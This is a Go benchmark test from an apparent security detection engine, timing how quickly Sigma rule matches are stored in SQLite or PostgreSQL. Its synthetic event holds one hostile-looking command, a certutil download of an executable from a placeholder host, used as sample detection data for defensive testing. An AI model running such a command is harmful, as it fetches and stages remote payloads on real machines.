package detect

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"testing"
	"time"

	"github.com/kubu-gov/kubu/internal/sigma"
	"github.com/kubu-gov/kubu/internal/store"
	"github.com/kubu-gov/kubu/internal/store/storetest"
	"github.com/kubu-gov/kubu/internal/testkit"
)

// BenchmarkWriteHits writes the matches of one detection batch: 1,000
// matches of 20 rules on 10 hosts (one match in five of a 5,000-event
// batch, as the SigmaHQ rules give on the EVTX corpus), joining open
// alerts after the first round, on SQLite (on PostgreSQL when
// KUBU_TEST_DATABASE_URL is set).
//
//	go test -run '^$' -bench WriteHits -benchtime 200x ./internal/detect
func BenchmarkWriteHits(b *testing.B) {
	engine := store.SQLite
	if os.Getenv("KUBU_TEST_DATABASE_URL") != "" {
		engine = store.Postgres
	}
	db := storetest.Open(b, engine)
	w := testkit.New(b, db)
	s := New(db, w.Audit, quietLog(), Options{NodeID: "bench"})
	ctx := context.Background()
	line := []byte(`{"@kubu":{"agency":"MOH","source":"bench","protocol":"hec","received":"2026-12-05T00:00:00Z","time":"2026-12-05T00:00:00Z","host":"ws1"},"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe"}`)
	rules := make([]*sigma.Rule, 20)
	for i := range rules {
		rules[i] = &sigma.Rule{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i), Title: fmt.Sprint("rule ", i), Level: "high"}
	}
	at := time.Now()
	batch := 0
	for b.Loop() {
		batch++
		hits := make([]hit, 0, 1000)
		for i := range 1000 {
			h := hitOf(rules[i%20], KindDetection)
			h.eventID, h.agency, h.at, h.event = fmt.Sprintf("%d-%d", batch, i), "MOH", at, line
			h.group = map[string]string{"host": fmt.Sprint("ws", i%10)}
			hits = append(hits, h)
		}
		err := s.db.Tx(ctx, func(tx *sql.Tx) error {
			n, err := s.writeHits(ctx, tx, hits, "")
			if err == nil && n != len(hits) {
				err = fmt.Errorf("stored %d matches, want %d", n, len(hits))
			}
			return err
		})
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N*1000), "µs/match")
}
